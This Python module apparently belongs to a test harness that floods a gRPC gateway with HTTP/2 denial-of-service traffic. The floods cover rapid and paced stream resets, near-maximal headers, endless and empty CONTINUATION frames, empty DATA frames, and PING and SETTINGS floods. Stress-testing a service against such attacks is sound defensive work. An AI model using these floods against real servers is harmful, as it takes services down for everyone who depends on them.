"""Floods of small things that cost their sender nothing: calls that are taken back, headers without end, frames that
say nothing, pings and settings."""

from __future__ import annotations

import itertools
from functools import partial

from hpack import Encoder

from flooder import Flood, Sent
from http2_client import SCREEN, WATCH_EVENTS, grpc_frame
from raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LAST_STREAM,
    MAX_FRAME_BYTES,
    PING,
    SETTINGS,
    call_head,
    frame,
    raw_http2,
    reset,
)

# How many connections a flood is sent over.
CONNECTIONS = 8

# How many frames are sent in one write.
BATCH = 200

# How many fields of two letters fit into 64 KiB of headers, as HTTP/2 counts them, beside those of a call.
MANY_FIELDS = 1_900


async def rapid_reset(path: str, address: str, sent: Sent) -> None:
    """Makes calls and takes them back in the same breath."""
    head, message = call_head(path), grpc_frame(b"")
    async with raw_http2(address) as connection:
        streams = iter(range(1, LAST_STREAM, 2))
        while batch := list(itertools.islice(streams, BATCH)):
            calls = (
                frame(HEADERS, END_HEADERS, stream, head)
                + frame(DATA, END_STREAM, stream, message)
                + reset(stream)
                for stream in batch
            )
            await connection.send(b"".join(calls))
            sent.count += BATCH


async def large_heads(is_taken_back: bool, address: str, sent: Sent) -> None:
    """Makes calls whose headers are almost as large as HTTP/2 lets them be, and whose fields are a byte each on the wire: they
    are in the gateway's table already."""
    encoder = Encoder()
    fields = [(":method", "POST"), (":scheme", "http"), (":path", SCREEN), (":authority", "gateway")]
    fields += [("content-type", "application/grpc"), ("x", "y")]
    first = encoder.encode(fields)
    head = encoder.encode(fields + [("x", "y")] * MANY_FIELDS)
    async with raw_http2(address) as connection:
        await connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
        streams = iter(range(3, LAST_STREAM, 2))
        while batch := list(itertools.islice(streams, BATCH)):
            calls = (
                frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + (reset(stream) if is_taken_back else b"")
                for stream in batch
            )
            await connection.send(b"".join(calls))
            sent.count += BATCH


async def paced_reset(address: str, sent: Sent) -> None:
    """Takes each call back only when the gateway may have seen it: within its limit on those that it has not."""
    head, message = call_head(WATCH_EVENTS), grpc_frame(b"")
    async with raw_http2(address) as connection:
        for stream in range(1, LAST_STREAM, 2):
            await connection.send(frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, message))
            await connection.ping()
            await connection.send(reset(stream))
            sent.count += 1


async def continuation(address: str, sent: Sent) -> None:
    """Begins headers, and never ends them."""
    more = frame(CONTINUATION, 0, 1, b"\0\1x\1y" * (MAX_FRAME_BYTES // 5))
    async with raw_http2(address) as connection:
        await connection.send(frame(HEADERS, 0, 1, call_head(SCREEN)))
        while True:
            await connection.send(more)
            sent.count += 1


async def empty_continuation(address: str, sent: Sent) -> None:
    """The same, of frames with nothing in them, which no limit on the size of headers ends."""
    more = frame(CONTINUATION, 0, 1) * BATCH
    async with raw_http2(address) as connection:
        await connection.send(frame(HEADERS, 0, 1, call_head(SCREEN)))
        while True:
            await connection.send(more)
            sent.count += BATCH


async def empty_data(address: str, sent: Sent) -> None:
    """Sends a message in parts of no bytes."""
    more = frame(DATA, 0, 1) * BATCH
    async with raw_http2(address) as connection:
        await connection.send(frame(HEADERS, END_HEADERS, 1, call_head(SCREEN)))
        while True:
            await connection.send(more)
            sent.count += BATCH


async def repeated(content: bytes, is_reading: bool, address: str, sent: Sent) -> None:
    """Sends the same again and again, whether or not it reads what that is answered."""
    async with raw_http2(address, is_reading=is_reading) as connection:
        while True:
            await connection.send(content * BATCH)
            sent.count += BATCH


A_PING = frame(PING, 0, 0, b"answerme")

# Every setting that there is, so that each frame changes something: the size of the window.
SOME_SETTINGS = b"".join(
    frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + window.to_bytes(4, "big")) for window in (1 << 16, 1 << 20)
)


def frame_floods() -> list[Flood]:
    clients = {
        "rapid reset of Screen": partial(rapid_reset, SCREEN),
        "rapid reset of WatchEvents": partial(rapid_reset, WATCH_EVENTS),
        "reset of open WatchEvents": paced_reset,
        "large headers": partial(large_heads, False),
        "large headers, taken back": partial(large_heads, True),
        "CONTINUATION without end": continuation,
        "empty CONTINUATION": empty_continuation,
        "empty DATA": empty_data,
        "PING": partial(repeated, A_PING, True),
        "PING, answers not read": partial(repeated, A_PING, False),
        "SETTINGS": partial(repeated, SOME_SETTINGS, True),
        "SETTINGS, answers not read": partial(repeated, SOME_SETTINGS, False),
    }
    return [Flood(name, "grpc", client, CONNECTIONS) for name, client in clients.items()]
